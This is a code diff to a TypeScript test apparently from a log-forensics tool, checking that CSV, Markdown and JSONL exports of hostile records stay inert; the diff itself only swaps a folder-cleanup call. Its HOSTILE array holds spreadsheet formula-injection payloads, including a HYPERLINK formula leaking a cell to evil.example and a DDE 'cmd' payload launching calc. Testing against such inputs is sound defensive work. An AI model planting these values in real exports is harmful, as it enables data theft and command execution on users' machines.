@@ -3,7 +3,7 @@
 // into a link or an image, and the JSONL line is plain JSON.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { openCase } from '../db/open-case.ts';
@@ -11,6 +11,7 @@ import { ingestPaths } from '../ingest/pipeline.ts';
 import { openWorkbench } from '../api/open-workbench.ts';
 import { mdCell } from './timeline-formats.ts';
 import type { ExportResult } from '../../../shared/api/types.ts';
+import { removeFolder } from '../../../test-support/remove-folder.ts';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 
@@ -33,7 +34,7 @@ function hostileRecord(i: number, agent: string) {
 
 test('CSV, Markdown and JSONL exports of hostile records are inert', async (t) => {
   const dir = mkdtempSync(join(tmpdir(), 'trailscope-hostile-export-'));
-  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  t.after(() => removeFolder(dir));
   const file = join(dir, 'trail.json');
   writeFileSync(file, JSON.stringify({ Records: HOSTILE.map((a, i) => hostileRecord(i, a)) }));
   const casePath = join(dir, 'hostile.case');
